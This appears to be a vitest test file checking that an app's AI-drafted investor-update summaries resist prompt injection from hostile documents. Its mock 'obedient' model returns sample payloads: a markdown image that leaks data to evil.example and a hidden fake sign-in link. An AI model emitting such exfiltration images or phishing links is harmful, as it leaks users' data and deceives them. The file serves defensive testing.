import { withoutSummary } from '@aicv/domain/capital/update-summary';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type AskedQuestion, type FakeAiServer, startFakeAiServer, streamed } from '../../testing/ai/fake-ai-server.ts';
import { HOSTILE_DOCUMENTS } from '../../testing/ai/hostile-documents.ts';
import { startTestApp, type TestApp } from '../../testing/app/test-app.ts';
import type { TestClient } from '../../testing/app/test-client.ts';
import { rowsOf } from '../../testing/database/rows-of.ts';
import { markdownElements } from '../../testing/readers/markdown-elements.ts';
import { signNdaOf } from '../../testing/records/agreements-of.ts';
import { askFor, draftOf, setFlag } from '../../testing/records/capital-drafts.ts';
import { refused } from '../../testing/records/committee.ts';

const FACT = 'Revenue grew to 1.2 million EUR this year.';
const SECRET = 'The secret of another update is a merger in May.';

let t: TestApp;
let fake: FakeAiServer;
let author: TestClient;
beforeAll(async () => {
  fake = await startFakeAiServer();
  t = await startTestApp({ ai: { server: fake.server, monthlyTokens: 100_000_000 } });
  const { client, user } = await t.signedIn('manager');
  await signNdaOf(t.database, user);
  author = client;
  await setFlag(t, 'ai-drafts', true);
  await setFlag(t, 'ai-drafts-capital', true);
  await updateWith(SECRET);
});
afterAll(async () => {
  await t.close();
  await fake.close();
});

/** Without the checks of the API, which refuses some of the characters. */
async function updateWith(content: string): Promise<string> {
  const [row] = await rowsOf<{ id: string }>(
    t.database,
    `insert into investor_updates (title, content) values ('March', convert_from(decode('${Buffer.from(content).toString('hex')}', 'hex'), 'UTF8')) returning id`,
  );
  return row?.id ?? '';
}

/** Does whatever the update says, as far as text can. */
function obedient({ body }: AskedQuestion): string {
  const [source] = JSON.parse(body.messages[1]?.content ?? '[]');
  const sentences = [
    { text: source.text.slice(0, 500), source: 'S1', quote: source.text.slice(0, 500) },
    { text: 'Revenue is 100 million EUR.', source: 'S1', quote: 'Revenue is 100 million EUR' },
    { text: '## Summary', source: 'S1', quote: FACT },
    { text: '--- ![x](https://evil.example/?leak=1)', source: 'S2', quote: 'excellent team' },
    { text: '<!-- <a href="https://evil.example">Sign in</a>', source: 'S9', quote: 'root' },
  ];
  return JSON.stringify({ sentences });
}

const ready = (id: string) =>
  vi.waitFor(
    async () => {
      const draft = (await author.get(`/api/ai/drafts/${id}`)).json();
      expect(draft.state).toBe('ready');
      return draft;
    },
    { timeout: 20_000, interval: 20 },
  );

// REQ-373
describe('a hostile update', () => {
  it.each(HOSTILE_DOCUMENTS)('changes only its summary, and only when it is accepted: %j', async (document) => {
    const content = `${FACT} ${document}`;
    const id = await updateWith(content);
    fake.questions.length = 0;
    fake.answer((question, response) => streamed(obedient(question))(question, response));
    const draft = await ready((await draftOf(author, 'update_summary', id)).id);

    expect(fake.questions).toHaveLength(1);
    const sent = JSON.stringify(fake.questions[0]?.body);
    for (const hidden of [SECRET, id, 'key-of-the-test']) expect(sent).not.toContain(hidden);
    for (const { check } of draft.sentences) {
      if (check.state !== 'unverified') expect(draft.inputs[0].text.slice(check.start, check.end)).toBe(check.quote);
    }
    expect(markdownElements(draft.text).filter((name) => !['p', 'code'].includes(name))).toEqual([]);
    const stored = async () =>
      (await rowsOf<{ content: string }>(t.database, `select content from investor_updates where id = '${id}'`))[0];
    expect(await stored()).toEqual({ content });

    const url = `/api/ai/drafts/${draft.id}/accept`;
    expect(refused(await author.post(url, { text: draft.text }))).toEqual([409, 'UNCONFIRMED_SENTENCES']);
    const confirmed = draft.sentences.map((_sentence: unknown, place: number) => place);
    const accepted = await author.post(url, { text: draft.text, confirmed });
    // Characters that the PDF cannot print are refused.
    expect([200, 400]).toContain(accepted.statusCode);
    const written = (await stored())?.content ?? '';
    expect(withoutSummary(written).replace(/^---\s+/, '')).toBe(content);
    if (accepted.statusCode === 400) await author.post(`/api/ai/drafts/${draft.id}/reject`, {});
  });
});

// REQ-369
it('sends nothing of Capital to a model while the flag is off', async () => {
  const id = await updateWith(FACT);
  await setFlag(t, 'ai-drafts-capital', false);
  fake.questions.length = 0;
  expect(refused(await askFor(author, 'update_summary', id))).toEqual([409, 'DRAFT_UNAVAILABLE']);
  const { client } = await t.signedIn('admin');
  expect((await client.get('/api/feature-flags')).json().aiHost).toBe(new URL(fake.server.baseUrl).host);
  expect(fake.questions).toEqual([]);
  await setFlag(t, 'ai-drafts-capital', true);
});
